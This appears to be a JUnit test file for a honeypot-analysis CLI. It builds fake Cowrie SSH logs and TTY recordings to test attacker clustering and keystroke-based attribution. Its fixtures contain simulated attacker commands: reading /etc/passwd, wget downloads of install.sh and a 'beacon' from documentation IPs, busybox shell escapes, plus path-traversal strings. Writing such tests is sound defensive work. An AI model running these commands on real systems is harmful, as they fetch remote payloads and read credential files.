package org.decnet.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.EnumSet;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.Random;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.TimeUnit;
import org.decnet.engine.identity.CommonValues;
import org.decnet.engine.port.WorkerName;
import org.decnet.engine.tick.ClusterTurn;
import org.decnet.model.bus.TopicPattern;
import org.decnet.server.node.Node;
import org.decnet.server.node.NodeSettings;
import org.decnet.server.worker.NodeWorkers;
import org.decnet.testkit.Hashes;
import org.decnet.testkit.Tty;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** From recordings beside a log of Cowrie to what is held of who typed. */
class RecordingsTest {
  private static final Instant START = Instant.parse("2026-03-01T10:00:00Z");
  private static final String TEXT = "cat /etc/passwd | grep root && uname -a && ls -la /var/tmp\r";
  private static final String LONG =
      TEXT
          + "ps aux | grep miner | head\rwget http://192.0.2.7/install.sh -O /tmp/i\r"
          + "netstat -antp | less\r";

  @TempDir Path home;
  private final List<String> lines = new ArrayList<>();
  private Path log = Path.of(".");
  private Path tty = Path.of(".");
  private Cli cli = new Cli(Path.of("."));

  @BeforeEach
  void folders() throws IOException {
    cli = new Cli(home.resolve("data"));
    log = Files.createDirectories(home.resolve("cowrie/log")).resolve("cowrie.json");
    tty = Files.createDirectories(home.resolve("cowrie/log/tty"));
  }

  @Test
  void aRecordingBesideItsLogIsObservedOnce() throws IOException {
    save(session("a1", "203.0.113.5", 0), tty);
    assertThat(observed()).isGreaterThan(15);
    assertThat(observed()).isZero();
    assertThat(cli.run("ingest", log.toString()).succeeded().out()).doesNotContain("Observations");
  }

  @Test
  void aRecordingThatComesAfterItsLogIsObservedWhenTheLogIsReadAgain() throws IOException {
    byte[] recording = session("a1", "203.0.113.5", 0);
    assertThat(observed()).isZero();
    save(recording, tty);
    assertThat(cli.run("ingest", log.toString()).succeeded().out())
        .contains("Observations  ", " new, from recordings");
    assertThat(observed()).isZero();
  }

  @Test
  void recordingsAreFoundWhereCowrieKeepsThemAndWhereTheOperatorSays() throws IOException {
    byte[] recording = session("a1", "203.0.113.5", 0);
    Path kept = Files.createDirectories(home.resolve("kept"));
    save(recording, kept);
    assertThat(observed()).isZero();
    cli = new Cli(home.resolve("data"), Map.of("DECNET_RECORDINGS", kept.toString()));
    assertThat(observed()).isPositive();
    log = Files.createDirectories(home.resolve("var/log/cowrie")).resolve("cowrie.json");
    save(recording, Files.createDirectories(home.resolve("var/lib/cowrie/tty")));
    cli = new Cli(home.resolve("other"));
    assertThat(observed()).isPositive();
  }

  @Test
  void aRecordingOfAnotherTimeIsOfAnotherSession() throws IOException {
    byte[] recording = session("a1", "203.0.113.5", 0);
    save(recording, tty);
    lines.replaceAll(line -> line.replace("2026-03-01T10", "2026-03-01T12"));
    assertThat(observed()).isZero();
  }

  @Test
  void whatALogSaysLeadsNowhereElse() throws IOException {
    byte[] recording = session("a1", "203.0.113.5", 0);
    Path secret = Files.createDirectories(home.resolve("secret"));
    Path elsewhere = save(recording, secret);
    String named = "tty/" + name(recording);
    for (String way : List.of("../../secret/" + name(recording), elsewhere.toString(), "..", "")) {
      List<String> before = List.copyOf(lines);
      lines.replaceAll(line -> line.replace(named, way));
      assertThat(observed()).as(way).isZero();
      lines.clear();
      lines.addAll(before);
    }
    Files.createSymbolicLink(tty.resolve(name(recording)), elsewhere);
    assertThat(observed()).as("a link").isZero();
    Files.delete(tty.resolve(name(recording)));
    Files.createDirectory(tty.resolve(name(recording)));
    assertThat(observed()).as("a folder").isZero();
  }

  @Test
  void damagedAndEmptyRecordingsShowNothingAndFailNothing() throws IOException {
    byte[] recording = session("a1", "203.0.113.5", 0);
    Files.write(tty.resolve(name(recording)), new byte[] {9, 9, 9});
    assertThat(observed()).isZero();
    Files.write(tty.resolve(name(recording)), new byte[0]);
    assertThat(observed()).isZero();
  }

  @Test
  void oneHandAtTwoAddressesIsOneIdentity() throws IOException {
    save(typed("a1", "203.0.113.5", 0, hand(1), LONG), tty);
    save(typed("b2", "198.51.100.9", 300, hand(1), LONG), tty);
    save(typed("c3", "192.0.2.77", 600, hand(2), LONG), tty);
    assertThat(observed()).isPositive();
    cli.run("cluster").succeeded();
    String one = identity("203.0.113.5");
    assertThat(identity("198.51.100.9")).isEqualTo(one);
    assertThat(identity("192.0.2.77")).isNotEqualTo(one);
    assertThat(cli.run("show", "identity", one).succeeded().out())
        .contains("keystroke:", "motor.keystroke_cadence")
        .doesNotContain("Split proposal");
  }

  @Test
  void twoPeopleBehindOneIdentityAreProposedForASplit() throws IOException {
    for (int turn = 0; turn < 5; turn++) {
      save(
          turn % 2 == 0
              ? typed("a" + turn, "203.0.113.5", 10 * turn, hand(1), TEXT)
              : pasted("b" + turn, "198.51.100.9", 10 * turn),
          tty);
    }
    lines.add(fetches("a0", "203.0.113.5"));
    lines.add(fetches("b1", "198.51.100.9"));
    assertThat(observed()).isPositive();
    cli.run("cluster").succeeded();
    String identity = identity("203.0.113.5");
    assertThat(identity("198.51.100.9")).isEqualTo(identity);
    assertThat(cli.run("show", "identity", identity).succeeded().out())
        .contains(
            "Behaviour (",
            "multi_actor",
            "Split proposal (1)",
            "  203.0.113.5\n    environmental.shell_type  posix\n",
            "    motor.input_modality  scripted\n",
            "To part them: decnet identity split " + identity + " --members 203.0.113.5");
    Cli.Ending json = cli.run("show", "identity", "--json", identity).succeeded();
    assertThat(json.out())
        .contains(
            "\"split_proposal\":{\"primitives\":[",
            "\"motor.input_modality\"",
            "{\"members\":[\"203.0.113.5\"],\"values\":{",
            "{\"members\":[\"198.51.100.9\"],\"values\":{");
    assertThat(json.json()).containsEntry("confidence", 0.75);
    cli.run("identity", "split", identity, "--members", "198.51.100.9").succeeded();
    cli.run("cluster").succeeded();
    assertThat(identity("198.51.100.9")).isNotEqualTo(identity("203.0.113.5"));
    assertThat(cli.run("show", "identity", identity("203.0.113.5")).succeeded().out())
        .contains("Behaviour (")
        .doesNotContain("Split proposal");
  }

  @Test
  void theWorkerHearsOfObservationsAndJudges() throws Exception {
    for (int turn = 0; turn < 3; turn++) {
      save(typed("a" + turn, "203.0.113.5", 10 * turn, hand(1), TEXT), tty);
    }
    observed();
    CountDownLatch judged = new CountDownLatch(1);
    try (Node node = Node.open(new NodeSettings(home.resolve("data")));
        NodeWorkers workers =
            NodeWorkers.start(
                node,
                Map.of(),
                Clock.systemUTC(),
                EnumSet.of(WorkerName.ATTRIBUTION),
                Duration.ofHours(1))) {
      assertThat(workers.names()).containsExactly(WorkerName.ATTRIBUTION);
      node.stores()
          .outbox()
          .onAppend(() -> {
            if (isTold(node, "attribution.profile.state_changed")) {
              judged.countDown();
            }
          });
      new ClusterTurn(node.stores().clusters(), CommonValues.DEFAULT, failed -> {}).run();
      assertThat(judged.await(60, TimeUnit.SECONDS)).isTrue();
    }
    assertThat(cli.run("status").succeeded().out()).contains("Worker attribution");
    assertThat(cli.run("show", "identity", identity("203.0.113.5")).succeeded().out())
        .contains("environmental.shell_type", "stable", "posix");
  }

  private static boolean isTold(Node node, String topic) {
    return !node.stores()
        .outbox()
        .read(0, List.of(new TopicPattern(topic)), 1)
        .messages()
        .isEmpty();
  }

  private String identity(String ip) {
    return cli.run("identities", "--json", "--limit", "100").succeeded().rows("data").stream()
        .map(row -> String.valueOf(row.get("uuid")))
        .filter(uuid ->
            cli.run("show", "identity", "--json", uuid).succeeded().rows("attackers").stream()
                .anyMatch(row -> ip.equals(row.get("ip"))))
        .findFirst()
        .orElseThrow();
  }

  private static Tty.Hand hand(long whose) {
    return new Tty.Hand(whose, 150, new Random(7));
  }

  private byte[] session(String id, String ip, int minute) {
    return typed(id, ip, minute, hand(1), TEXT);
  }

  /** Someone types, and the log tells of it; gives the recording. */
  private byte[] typed(String id, String ip, int minute, Tty.Hand hand, String text) {
    Tty tty = at(minute).after(1500).typed(text, hand).after(900).typed("exit\r", hand);
    return told(id, ip, minute, tty);
  }

  /** Someone sends what he prepared. */
  private byte[] pasted(String id, String ip, int minute) {
    return told(
        id,
        ip,
        minute,
        at(minute)
            .after(300)
            .input("enable\nsystem\nshell\nsh\n")
            .after(190)
            .input("cat /proc/mounts; /bin/busybox EXAMPLE\n")
            .after(400));
  }

  private static Tty at(int minute) {
    return Tty.begun(START.plusSeconds(60L * minute));
  }

  private byte[] told(String id, String ip, int minute, Tty tty) {
    byte[] recording = tty.closed();
    Instant start = START.plusSeconds(60L * minute);
    lines.add(line(id, ip, start, "session.connect", "\"protocol\":\"ssh\","));
    lines.add(
        line(id, ip, start, "login.success", "\"username\":\"root\",\"password\":\"" + id + "\","));
    lines.add(
        line(
            id,
            ip,
            tty.now(),
            "log.closed",
            "\"ttylog\":\"tty/" + name(recording) + "\",\"size\":1,\"duplicate\":false,"));
    lines.add(line(id, ip, tty.now(), "session.closed", "\"duration\":30.0,"));
    return recording;
  }

  private static String fetches(String id, String ip) {
    return line(
        id,
        ip,
        START.plusSeconds(2),
        "command.input",
        "\"input\":\"wget http://192.0.2.66/beacon\",");
  }

  private static Path save(byte[] recording, Path folder) throws IOException {
    return Files.write(folder.resolve(name(recording)), recording);
  }

  /** Any name does. */
  private static String name(byte[] recording) {
    return Hashes.sha256(Arrays.toString(recording));
  }

  /** Reads the log, and gives how many traits were new. */
  private int observed() throws IOException {
    Files.write(log, lines);
    Object count =
        cli.run("ingest", "--json", log.toString()).succeeded().json().get("new_observations");
    return ((Number) Objects.requireNonNull(count)).intValue();
  }

  private static String line(String id, String ip, Instant time, String event, String fields) {
    return "{\"eventid\":\"cowrie."
        + event
        + "\","
        + fields
        + "\"src_ip\":\""
        + ip
        + "\",\"session\":\""
        + id
        + "\",\"sensor\":\"web-1\",\"timestamp\":\""
        + time
        + "\"}";
  }
}
